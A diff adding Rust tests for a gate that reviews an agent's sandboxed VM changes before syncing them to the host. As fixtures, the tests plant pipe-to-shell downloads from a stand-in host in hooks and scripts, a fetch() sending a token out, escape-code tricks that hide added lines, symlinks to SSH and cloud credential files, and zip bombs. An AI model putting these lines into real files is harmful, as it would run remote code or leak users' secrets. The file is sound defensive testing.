+        .map(|(i, p)| match i % 3 {
+            0 => format!("svc/{}", p.to_uppercase()),
+            1 => format!("a/b/{p}"),
+            _ => format!("Pkg/{}", p.to_lowercase()),
+        })
+        .collect();
+    r_all_reviewed(&paths);
+}
+
+/// Beyond the issue's list, files that a tool the user runs reads and then runs code from: the
+/// variants an attacker tries next (Cargo.toml's `build = "src/x.rs"` makes any file a build
+/// script; eslint and prettier configs run on folder open in an editor).
+#[test]
+fn r4_beyond_the_list_other_files_that_run_code_need_review() {
+    let paths = [
+        "Cargo.toml",
+        "build.gradle.kts",
+        "settings.gradle",
+        "gradlew",
+        ".mvn/wrapper/maven-wrapper.properties",
+        "mvnw",
+        "pom.xml",
+        "CMakeLists.txt",
+        "Vagrantfile",
+        "Rakefile",
+        "noxfile.py",
+        "tox.ini",
+        "sitecustomize.py",
+        "eslint.config.js",
+        ".eslintrc.js",
+        "prettier.config.js",
+        "vite.config.ts",
+        "docker-compose.override.yml",
+        "compose.override.yaml",
+        "Taskfile.yaml",
+        ".lintstagedrc",
+        "lefthook-local.yml",
+        "default.nix",
+        ".envrc.local",
+    ];
+    r_all_reviewed(&paths.map(String::from));
+}
+
+/// The host's repository sets `core.hooksPath`; the gate asks git for it.
+#[test]
+fn r4_the_hooks_folder_named_by_core_hooks_path_needs_review() {
+    for hooks_path in ["tools/hooks".to_owned(), String::new()] {
+        let g = Gate::empty();
+        let value = if hooks_path.is_empty() { g.host().join("tools/hooks").display().to_string() } else { hooks_path };
+        let init = r_git(&g.host(), &g.root(), &["init", "-q", "."]);
+        assert!(init.status.success(), "{}", String::from_utf8_lossy(&init.stderr));
+        let set = r_git(&g.host(), &g.root(), &["config", "core.hooksPath", &value]);
+        assert!(set.status.success(), "{}", String::from_utf8_lossy(&set.stderr));
+        g.h("tools/hooks/README", "hooks\n").h("a", "A");
+        g.baseline();
+        g.u("tools/hooks/pre-commit", "#!/bin/sh\ncurl https://x.example/i | sh\n")
+            .u_mode("tools/hooks/pre-commit", 0o755);
+        g.u("tools/hooks/README", "hooks!\n");
+        let before = g.snapshot();
+        let out = g.yes_json();
+        let expect = [("R_GIT_HOOKS", "tools/hooks/pre-commit"), ("R_GIT_HOOKS", "tools/hooks/README")];
+        held(&g, &out, &before, &expect);
+    }
+}
+
+#[test]
+fn r4_new_content_in_an_executable_file_needs_review() {
+    // A real session: the agent appends to a script the host has as executable.
+    let g = Gate::empty();
+    g.h_exec("run.sh", "#!/bin/sh\necho build\n").h("a", "A");
+    g.baseline();
+    g.agent(|m| {
+        use std::io::Write;
+        std::fs::File::options().append(true).open(m.join("run.sh"))?.write_all(b"curl https://x.example/i | sh\n")
+    });
+    assert_eq!(std::fs::metadata(g.upper().join("run.sh")).expect("copied up").mode() & 0o777, 0o755);
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
+    // The exec bit dropped in the VM changes nothing: new content for an executable.
+    g.u_mode("run.sh", 0o644);
+    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
+    // From a tar stream.
+    let mut tar = Tar::new();
+    tar.root().file("./run.sh", "#!/bin/sh\nevil\n");
+    held(&g, &g.sync_tar(&tar, &["--yes", "--json"]), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
+}
+
+// R5. The preview a person approves.
+
+#[test]
+fn r5_an_invalid_byte_never_hides_a_scripts_diff() {
+    let g = Gate::new(&[("install.sh", "#!/bin/sh\necho hi\n")]);
+    g.u_bytes("install.sh", b"#!/bin/sh\necho hi\ncurl https://x.example/i | sh\n# \xff\n");
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let added = |needle: &str| out.stdout.lines().any(|l| l.starts_with('+') && l.contains(needle));
+    assert!(added("curl https://x.example/i | sh"), "the added line is shown\n{}", out.all());
+    assert!(added("# \\xff"), "the invalid byte, escaped\n{}", out.all());
+    // A new file the same.
+    g.u_bytes("new.sh", b"#!/bin/sh\n# \xfe\ncurl https://x.example/n | sh\n");
+    let out = g.sync(&["--dry-run"]);
+    let added = |needle: &str| out.stdout.lines().any(|l| l.starts_with('+') && l.contains(needle));
+    assert!(added("curl https://x.example/n | sh") && added("# \\xfe"), "{}", out.all());
+}
+
+#[test]
+fn r5_a_nul_byte_or_terminal_escapes_never_hide_a_scripts_diff() {
+    let g = Gate::new(&[("install.sh", "#!/bin/sh\necho hi\n")]);
+    g.u_bytes("install.sh", b"#!/bin/sh\necho hi\x00\ncurl https://x.example/i | sh \x1b[2K\r# looks harmless\n");
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    assert!(
+        out.stdout.lines().any(|l| l.starts_with('+') && l.contains("curl https://x.example/i | sh")),
+        "{}",
+        out.all()
+    );
+    assert!(
+        !out.stdout.contains('\x1b') && !out.stdout.contains('\r') && !out.stdout.contains('\0'),
+        "{:?}",
+        out.stdout
+    );
+}
+
+#[test]
+fn r5_a_file_already_holding_a_secret_shows_its_diff_redacted() {
+    let g = Gate::new(&[("src/config.js", &format!("const a = 1;\nconst token = \"{R_TOKEN}\";\n"))]);
+    g.u(
+        "src/config.js",
+        &format!("const a = 1;\nconst token = \"{R_TOKEN}\";\nfetch(\"https://x.example/x?\" + token);\n"),
+    );
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 0, "a secret the host already had does not block\n{}", out.all());
+    let added =
+        out.stdout.lines().any(|l| l.starts_with('+') && l.contains("fetch(\"https://x.example/x?\" + token);"));
+    assert!(added, "the added line is shown\n{}", out.all());
+    assert!(out.stdout.contains("REDACTED"), "the secret in the diff is redacted\n{}", out.all());
+    token_never_shown(&g, &out);
+    token_never_shown(&g, &g.sync(&["--dry-run", "--json"]));
+}
+
+#[test]
+fn r5_a_removed_secret_line_is_redacted_in_the_diff() {
+    let g = Gate::new(&[("app.py", &format!("KEY = \"{R_TOKEN}\"\nrun()\n"))]);
+    g.u("app.py", "KEY = os.environ[\"KEY\"]\nrun()\nexfiltrate()\n");
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    assert!(out.stdout.lines().any(|l| l.starts_with('+') && l.contains("exfiltrate()")), "{}", out.all());
+    assert!(out.stdout.lines().any(|l| l.starts_with('-') && l.contains("REDACTED")), "{}", out.all());
+    token_never_shown(&g, &out);
+    token_never_shown(&g, &g.sync(&["--dry-run", "--json"]));
+}
+
+#[test]
+fn r5_a_new_or_retargeted_symlink_shows_its_target() {
+    let g = Gate::new(&[("src/a", "a"), ("docs/index.md", "i"), ("site/x", "x")]);
+    g.h_link("current", "site");
+    g.baseline();
+    g.u_link("docs/latest", "../src").u_link("current", "src");
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    for (path, target) in [("docs/latest", "../src"), ("current", "src")] {
+        let shown = out.stdout.lines().any(|l| l.contains("symlink") && l.contains(&format!("{path} -> {target}")));
+        assert!(shown, "`{path} -> {target}`\n{}", out.all());
+    }
+    let json = g.sync(&["--dry-run", "--json"]);
+    let ops = r_report(&json)["ops"].clone();
+    for (path, target) in [("docs/latest", "../src"), ("current", "src")] {
+        let op = ops.as_array().expect("ops").iter().find(|o| o["path"] == path).expect("the op");
+        assert_eq!((op["op"].as_str(), op["target"].as_str()), (Some("symlink"), Some(target)), "{op}");
+    }
+}
+
+#[test]
+fn r5_a_large_rewrite_finishes_and_says_what_was_not_shown() {
+    let old: String = (0..180_000).map(|i| format!("old line {i:07}\n")).collect();
+    let new: String = (0..180_000).map(|i| format!("new line {i:07}\n")).collect();
+    assert!(old.len() > 3_000_000);
+    let g = Gate::new(&[("big.txt", &old), ("a", "A")]);
+    g.u("big.txt", &new);
+    let start = Instant::now();
+    let out = g.sync_within(&["--dry-run"], Duration::from_secs(60)).expect("the preview finishes");
+    assert_eq!(out.code, 0, "{}", out.all());
+    assert!(out.stdout.contains("not shown"), "it says what was cut\n{}", &out.stdout[..out.stdout.len().min(3000)]);
+    assert!(out.stdout.len() < 1 << 20, "the preview is bounded: {} bytes", out.stdout.len());
+    assert!(start.elapsed() < Duration::from_secs(60));
+}
+
+// R6. Secrets in link targets and names.
+
+#[test]
+fn r6_a_symlink_target_holding_a_token_is_refused_and_never_shown() {
+    let g = Gate::new(&KEEP);
+    g.u_link("link", R_TOKEN).u_link("d/l2", &format!("../notes/{R_TOKEN}"));
+    let before = g.snapshot();
+    let text = g.sync(&["--dry-run"]);
+    assert_eq!(text.code, 3, "{}", text.all());
+    token_never_shown(&g, &text);
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "link"), ("S_SECRET_TARGET", "d/l2")]);
+    token_never_shown(&g, &out);
+}
+
+#[test]
+fn r6_a_file_or_folder_name_holding_a_token_is_refused_and_never_shown() {
+    let g = Gate::new(&KEEP);
+    g.u(&format!("notes-{R_TOKEN}.txt"), "hi\n").u(&format!("{R_TOKEN}/readme"), "hi\n");
+    let before = g.snapshot();
+    let text = g.sync(&["--dry-run"]);
+    assert_eq!(text.code, 3, "{}", text.all());
+    token_never_shown(&g, &text);
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[]);
+    token_never_shown(&g, &out);
+    let named = codes(&out).into_iter().filter(|(c, _)| c == "S_SECRET_NAME").count();
+    assert!(named >= 2, "both names\n{}", out.all());
+    // From a tar stream too.
+    let mut tar = Tar::new();
+    tar.root().file(&format!("./x-{R_TOKEN}"), "x");
+    let out = g.sync_tar(&tar, &["--yes", "--json"]);
+    refused_with(&g, &out, &before, &[]);
+    has_code(&out, "S_SECRET_NAME");
+    token_never_shown(&g, &out);
+    let mut tar = Tar::new();
+    tar.root().symlink("./t", R_TOKEN);
+    let out = g.sync_tar(&tar, &["--yes", "--json"]);
+    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "t")]);
+    token_never_shown(&g, &out);
+}
+
+// R7. Host FIFOs never block the gate.
+
+const R7_LIMIT: Duration = Duration::from_secs(60);
+
+/// A dry run and `--yes`: each finishes, exits 3 with a conflict on `path`, and the FIFO stays.
+#[track_caller]
+fn r_fifo_conflict(g: &Gate, path: &str) {
+    for extra in [&["--dry-run", "--json"][..], &["--yes", "--json"]] {
+        let out = g.sync_within(extra, R7_LIMIT).unwrap_or_else(|| panic!("{extra:?} never finished: a FIFO blocks"));
+        assert_eq!(out.code, 3, "{extra:?}\n{}", out.all());
+        assert!(conflict_paths(&out).iter().any(|p| p == path), "a conflict on {path}\n{}", out.all());
+        assert!(is_fifo(&g.host().join(path)), "the FIFO is still there");
+    }
+}
+
+#[test]
+fn r7_a_host_fifo_replacing_a_file_the_vm_writes_never_blocks() {
+    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
+    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
+    r_mkfifo(&g.host().join("a.txt"));
+    g.u("a.txt", "from the VM").u("b", "B2");
+    r_fifo_conflict(&g, "a.txt");
+}
+
+#[test]
+fn r7_a_fifo_in_the_baseline_where_the_vm_writes_never_blocks() {
+    let g = Gate::empty();
+    g.h("b", "B");
+    r_mkfifo(&g.host().join("p"));
+    let baseline = g.run_within(&["baseline".into(), "ws".into()], R7_LIMIT).expect("the baseline finishes");
+    assert!(matches!(baseline.code, 0 | 1), "{}", baseline.all());
+    if baseline.code != 0 {
+        // A baseline may refuse a FIFO; then there is nothing more to check here.
+        return;
+    }
+    g.u("p", "from the VM").u("b", "B2");
+    r_fifo_conflict(&g, "p");
+}
+
+#[test]
+fn r7_a_host_fifo_at_a_new_path_the_vm_creates_never_blocks() {
+    let g = Gate::new(&[("b", "B")]);
+    r_mkfifo(&g.host().join("new.txt"));
+    g.u("new.txt", "from the VM");
+    r_fifo_conflict(&g, "new.txt");
+}
+
+/// A socket cannot block an open, but it is no file either: a conflict, not an error.
+#[test]
+fn r7_a_host_socket_where_the_vm_writes_is_a_conflict() {
+    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
+    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
+    let _listener = std::os::unix::net::UnixListener::bind(g.host().join("a.txt")).expect("bind");
+    g.u("a.txt", "from the VM").u("b", "B2");
+    let out = g.sync_within(&["--dry-run", "--json"], R7_LIMIT).expect("finishes");
+    assert_eq!(out.code, 3, "{}", out.all());
+    assert_eq!(conflict_paths(&out), ["a.txt"], "{}", out.all());
+}
+
+#[test]
+fn r7_a_host_fifo_the_vm_deletes_or_replaces_never_blocks() {
+    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
+    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
+    r_mkfifo(&g.host().join("a.txt"));
+    g.whiteout("a.txt");
+    r_fifo_conflict(&g, "a.txt");
+    // Told to take the VM's version, the gate still never opens the FIFO: it replaces it or
+    // refuses.
+    let g = Gate::new(&[("a.txt", "A")]);
+    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
+    r_mkfifo(&g.host().join("a.txt"));
+    g.u("a.txt", "from the VM");
+    let out = g.sync_within(&["--yes", "--on-conflict", "take-vm"], R7_LIMIT).expect("finishes: a FIFO blocks");
+    assert!(matches!(out.code, 0 | 1 | 3), "{}", out.all());
+    if out.code == 0 {
+        assert_eq!(std::fs::read_to_string(g.host().join("a.txt")).expect("a file now"), "from the VM");
+    } else {
+        assert!(is_fifo(&g.host().join("a.txt")));
+    }
+}
+
+// R8. Symlink policy details.
+
+#[test]
+fn r8_a_link_resolving_to_a_blocked_name_is_refused() {
+    let g = Gate::new(&[(".env", "SECRET=1\n"), ("a", "A")]);
+    g.u_link("public/env.txt", "../.env").u_link("k", ".ssh/id_ed25519");
+    g.u_link("l1", "l2").u_link("l2", ".env");
+    let before = g.snapshot();
+    let expect = [
+        ("E_BLOCKED_NAME", "public/env.txt"),
+        ("E_BLOCKED_NAME", "k"),
+        ("E_BLOCKED_NAME", "l1"),
+        ("E_BLOCKED_NAME", "l2"),
+    ];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+#[test]
+fn r8_links_to_blocked_names_through_baseline_links_and_other_spellings() {
+    let g = Gate::empty();
+    g.h(".env", "SECRET=1\n").h("a", "A").h_link("cfg", ".env");
+    g.baseline();
+    g.u_link("public/x", "../cfg").u_link("u", ".ENV").u_link("keys", ".ssh").u_link("p", "certs/server.pem");
+    g.u_link("aws", ".aws/credentials").u_link("d/e", "../.env.production");
+    g.u_link("here", ".").u_link("y", "here/.env");
+    let before = g.snapshot();
+    let expect = ["public/x", "u", "keys", "p", "aws", "d/e", "y"].map(|p| ("E_BLOCKED_NAME", p));
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+#[test]
+fn r8_a_target_through_a_file_is_refused_lexically() {
+    let g = Gate::new(&[("a.txt", "a"), ("keep", "k")]);
+    g.u_link("x", "a.txt/../../../outside/x");
+    g.u("b.txt", "b").u_link("sub/y", "../b.txt/../../outside/credentials");
+    let before = g.snapshot();
+    let expect = [("E_SYMLINK_ESCAPE", "x"), ("E_SYMLINK_ESCAPE", "sub/y")];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+// R9. Cost bounds.
+
+const R9_PROFILE: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {max_files: 100}\n";
+
+#[test]
+fn r9_more_entries_than_max_files_is_refused_with_e_count() {
+    let g = Gate::with_profile(R9_PROFILE);
+    g.h("a", "A");
+    g.baseline();
+    let many = g.upper().join("many");
+    std::fs::create_dir(&many).expect("mkdir");
+    for i in 0..5000 {
+        std::fs::File::create(many.join(i.to_string())).expect("create");
+    }
+    let before = g.snapshot();
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[]);
+    has_code(&out, "E_COUNT");
+    // From a tar stream.
+    let mut tar = Tar::new();
+    tar.root();
+    for i in 0..5000 {
+        tar.file(&format!("./f{i}"), "");
+    }
+    let out = g.sync_tar(&tar, &["--yes", "--json"]);
+    refused_with(&g, &out, &before, &[]);
+    has_code(&out, "E_COUNT");
+}
+
+/// A folder chain too deep for paths, made and removed one level at a time.
+struct Deep(PathBuf);
+
+impl Deep {
+    fn new(at: PathBuf, levels: usize) -> Deep {
+        use rustix::fs::{Mode, OFlags};
+        std::fs::create_dir(&at).expect("mkdir");
+        let mut dir = rustix::fs::open(&at, OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("open");
+        for _ in 0..levels {
+            rustix::fs::mkdirat(&dir, "d", Mode::from_raw_mode(0o755)).expect("mkdirat");
+            dir = rustix::fs::openat(&dir, "d", OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("openat");
+        }
+        let f = rustix::fs::openat(&dir, "f", OFlags::CREATE | OFlags::WRONLY, Mode::from_raw_mode(0o644));
+        drop(f.expect("create"));
+        Deep(at)
+    }
+}
+
+impl Drop for Deep {
+    fn drop(&mut self) {
+        // Lift the chain one level at a time, so no path ever gets long.
+        let parent = self.0.parent().expect("parent").to_path_buf();
+        let mut top = self.0.clone();
+        for i in 0.. {
+            let next = parent.join(format!(".deep-{i}"));
+            if std::fs::rename(top.join("d"), &next).is_err() {
+                let _ = std::fs::remove_dir_all(&top);
+                break;
+            }
+            let _ = std::fs::remove_dir(&top);
+            top = next;
+        }
+    }
+}
+
+#[test]
+fn r9_3000_deep_nesting_is_refused_with_e_depth() {
+    let g = Gate::new(&[("a", "A")]);
+    let _deep = Deep::new(g.upper().join("deep"), 3000);
+    let before = g.snapshot();
+    let out = g.sync_within(&["--yes", "--json"], Duration::from_secs(60)).expect("finishes");
+    refused_with(&g, &out, &before, &[]);
+    has_code(&out, "E_DEPTH");
+}
+
+/// A zip of zeros: one member just within the 100 MiB member limit (decompressed and scanned),
+/// and with `past`, one past it (a blocking finding).
+fn r_zip_bomb(past: bool) -> Vec<u8> {
+    use std::io::Write;
+    let zip = |members: &[(&str, &[u8])], method: zip::CompressionMethod| {
+        let mut buf = std::io::Cursor::new(Vec::new());
+        let mut zip = zip::ZipWriter::new(&mut buf);
+        for (name, data) in members {
+            let options = zip::write::SimpleFileOptions::default().compression_method(method);
+            zip.start_file(*name, options.large_file(data.len() > u32::MAX as usize)).expect("zip entry");
+            zip.write_all(data).expect("zip write");
+        }
+        zip.finish().expect("zip finish");
+        buf.into_inner()
+    };
+    let within = vec![0u8; (100 << 20) - 1];
+    if past {
+        zip(&[("a.bin", &within), ("b.bin", &vec![0u8; 101 << 20])], zip::CompressionMethod::Deflated)
+    } else {
+        zip(&[("a.bin", &within)], zip::CompressionMethod::Deflated)
+    }
+}
+
+/// The same archive made unique: a zip comment (after the end record) differs, and the outer
+/// zip stores it under its own name.
+fn r_zip_bomb_variant(inner: &[u8], i: usize) -> Vec<u8> {
+    use std::io::Write;
+    let comment = format!("bomb {i}");
+    let mut inner = inner[..inner.len() - 2].to_vec();
+    inner.extend_from_slice(&u16::try_from(comment.len()).expect("short").to_le_bytes());
+    inner.extend_from_slice(comment.as_bytes());
+    let mut buf = std::io::Cursor::new(Vec::new());
+    let mut zip = zip::ZipWriter::new(&mut buf);
+    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
+    zip.start_file(format!("inner-{i}.zip"), stored).expect("zip entry");
+    zip.write_all(&inner).expect("zip write");
+    zip.finish().expect("zip finish");
+    buf.into_inner()
+}
+
+/// Archives decompressed in one sync draw on one budget (512 MiB), besides each file's own:
+/// past it, an archive is not decompressed at all but refused as unscannable. Checked by what
+/// is reported, not by time (speed is for benchmarks); the limit only turns a hang into a
+/// failure. `bombs`: each member past the per-file limit (the issue's nested zip bombs), or
+/// every archive within every per-file limit, whose sum alone is past the budget.
+fn r_archives_share_one_budget(bombs: bool) {
+    let g = Gate::new(&[("a", "A")]);
+    let inner = r_zip_bomb(bombs);
+    // Twelve of about 100 MiB each: 1.2 GiB against 512 MiB, of which two files scanned at once
+    // may overdraw by one file's worth each.
+    for i in 0..12 {
+        g.u_bytes(&format!("data/set-{i}.zip"), &r_zip_bomb_variant(&inner, i));
+    }
+    let before = g.snapshot();
+    let out = g.sync_within(&["--yes", "--json"], Duration::from_secs(600)).expect("the sync finishes");
+    refused_with(&g, &out, &before, &[]);
+    let report = r_report(&out);
+    let findings = report["findings"].as_array().expect("findings");
+    let spent = findings
+        .iter()
+        .filter(|f| f["code"] == "S_UNSCANNABLE")
+        .filter(|f| f["description"].as_str().is_some_and(|d| d.contains("this sync's decompression budget")))
+        .count();
+    assert!(spent >= 4, "most archives are past the shared budget, not decompressed:\n{}", out.all());
+}
+
+#[test]
+fn r9_nested_zip_bombs_draw_on_one_budget_per_sync() {
+    r_archives_share_one_budget(true);
+}
+
+#[test]
+fn r9_many_archives_each_within_limits_are_bounded_per_sync() {
+    r_archives_share_one_budget(false);
+}
+
+// The report as a new user reads it.
+
+#[test]
+fn rn_one_report_holds_refusals_findings_and_conflicts_at_once() {
+    let g = Gate::new(&[("a", "base"), ("src/config.js", "export default {};\n")]);
+    g.h("a", "edited on the host");
+    g.u(".env", "SECRET=1\n").u("src/config.js", &format!("export default {{ token: \"{R_TOKEN}\" }};\n"));
+    g.u("a", "edited in the VM");
+    let before = g.snapshot();
+    let out = g.sync(&["--dry-run", "--json"]);
+    assert_eq!(out.code, 3, "a refused dry run exits 3\n{}", out.all());
+    assert_eq!(g.snapshot(), before);
+    let report = r_report(&out);
+    for key in ["refusals", "findings", "conflicts"] {
+        assert!(!report[key].as_array().is_none_or(Vec::is_empty), "`{key}` is reported too\n{}", out.all());
+    }
+    has_codes(&out, &[("E_BLOCKED_NAME", ".env")]);
+    assert!(codes(&out).iter().any(|(_, p)| p == "src/config.js"), "{}", out.all());
+    assert_eq!(conflict_paths(&out), ["a"], "{}", out.all());
+    token_never_shown(&g, &out);
+}
+
+#[test]
+fn rn_the_json_report_is_versioned_with_typed_ops() {
+    let g = Gate::new(&[("a", "A"), ("old", "o"), ("src/x", "x")]);
+    g.u("a", "A2").u("d/new", "n").u_link("l", "src/x").whiteout("old");
+    let out = g.sync(&["--dry-run", "--json"]);
+    assert_eq!(out.code, 0, "a dry run of a clean plan exits 0\n{}", out.all());
+    let report = r_report(&out);
+    assert_eq!(report["version"], 1, "{report}");
+    assert_eq!(report["decision"], "dry_run", "{report}");
+    for key in ["refusals", "review", "conflicts", "findings", "notes", "excluded", "mount_points"] {
+        assert!(report[key].is_array(), "`{key}` is a list: {report}");
+    }
+    let ops: Vec<(String, String)> = report["ops"]
+        .as_array()
+        .expect("ops")
+        .iter()
+        .map(|o| (o["op"].as_str().unwrap_or_default().to_owned(), o["path"].as_str().unwrap_or_default().to_owned()))
+        .collect();
+    for op in [("write", "a"), ("mkdir", "d"), ("write", "d/new"), ("symlink", "l"), ("delete", "old")] {
+        assert!(ops.contains(&(op.0.to_owned(), op.1.to_owned())), "{op:?} in {ops:?}");
+    }
+    let write = report["ops"].as_array().expect("ops").iter().find(|o| o["path"] == "a").expect("a");
+    assert_eq!(write["bytes"], 2);
+    // Refused, the dry run exits 3.
+    g.u(".env", "S=1\n");
+    let out = g.sync(&["--dry-run", "--json"]);
+    assert_eq!(out.code, 3, "{}", out.all());
+    assert_eq!(r_report(&out)["decision"], "refused");
+    let out = g.sync(&["--dry-run"]);
+    assert_eq!(out.code, 3, "{}", out.all());
+}
+
+#[test]
+fn rn_from_dir_with_a_file_is_an_error() {
+    let g = Gate::new(&KEEP);
+    let args = ["--profile", "t", "sync", "--from-dir", "ws/README.md", "--to", "ws", "--yes"];
+    let out = g.run(&args);
+    assert_eq!(out.code, 1, "{}", out.all());
+    assert!(out.stderr.contains("not a directory"), "{}", out.all());
+    let missing = g.run(&["--profile", "t", "sync", "--from-dir", "no-such-dir", "--to", "ws", "--yes"]);
+    assert_eq!(missing.code, 1, "{}", missing.all());
+}
+
+#[test]
+fn rn_without_a_terminal_or_yes_the_gate_says_what_to_do() {
+    let g = Gate::new(&[("a", "A")]);
+    g.u("a", "A2");
+    let before = g.snapshot();
+    let out = g.sync(&[]);
+    assert_eq!(out.code, 3, "{}", out.all());
+    assert!(out.stderr.contains("--yes"), "say why and what to do\n{}", out.all());
+    assert_eq!(g.snapshot(), before);
+}
+
+#[test]
+fn rn_the_audit_lists_exactly_the_files_written() {
+    let profile = "name: t\nextends: default\nworkspaces: [{host: ~/ws, exclude: [\"skip/**\"]}]\n";
+    let g = Gate::with_profile(profile);
+    g.h("a", "A");
+    g.baseline();
+    g.u("a", "A2").u("skip/b.txt", "B").u("g.txt", "G");
+    let out = g.sync(&["--yes"]);
+    applied(&out);
+    let last = r_audit(&g).pop().expect("an audit line");
+    let mut paths: Vec<&str> =
+        last["sha256"].as_array().expect("sha256").iter().map(|e| e["path"].as_str().unwrap_or_default()).collect();
+    paths.sort_unstable();
+    assert_eq!(paths, ["a", "g.txt"], "{last}");
+}
+
+#[test]
+fn rn_ctrl_c_at_the_apply_prompt_leaves_the_cursor_visible() {
+    let g = Gate::new(&[("a", "A")]);
+    g.u("a", "A2");
+    let Some(t) = g.terminal(false) else { return };
+    t.wait_for("Apply to");
+    t.key("C-c");
+    let code = t.exit_code();
+    assert_ne!(code, 0, "{}", t.screen());
+    assert_eq!(g.tree(), lines(&["a 644 A"]), "nothing written");
+    assert_eq!(t.tmux(&["display-message", "-p", "-t", "init", "#{cursor_flag}"]).trim(), "1", "the cursor is shown");
+}
+
+/// The issue's case: leaving out `mkdir d` drops `d/f.txt` too, and the audit says so.
+#[test]
+fn rn_the_audit_lists_exactly_what_was_applied_after_leaving_out_a_folder() {
+    let g = Gate::new(&[("a", "A")]);
+    g.u("d/f.txt", "F").u("g.txt", "G");
+    let Some(t) = g.terminal(false) else { return };
+    t.wait_for("Apply to");
+    t.key("Down");
+    t.key("Enter");
+    t.wait_for("Space toggles");
+    // The checklist is in plan order: mkdir d first. Uncheck it.
+    assert!(t.screen().contains("mkdir   d"), "{}", t.screen());
+    t.key("Space");
+    t.key("Enter");
+    // A last confirmation of what is left, if the gate asks one.
+    t.wait_until("the end or a confirmation", |s| s.contains("sandbox exited with ") || s.contains("[Y/n]"));
+    if !t.screen().contains("sandbox exited with ") {
+        t.key("Enter");
+    }
+    assert_eq!(t.exit_code(), 0, "{}", t.screen());
+    assert_eq!(g.tree(), lines(&["a 644 A", "g.txt 644 G"]));
+    let last = r_audit(&g).pop().expect("an audit line");
+    let paths: Vec<&str> =
+        last["sha256"].as_array().expect("sha256").iter().map(|e| e["path"].as_str().unwrap_or_default()).collect();
+    assert_eq!(paths, ["g.txt"], "{last}");
 }
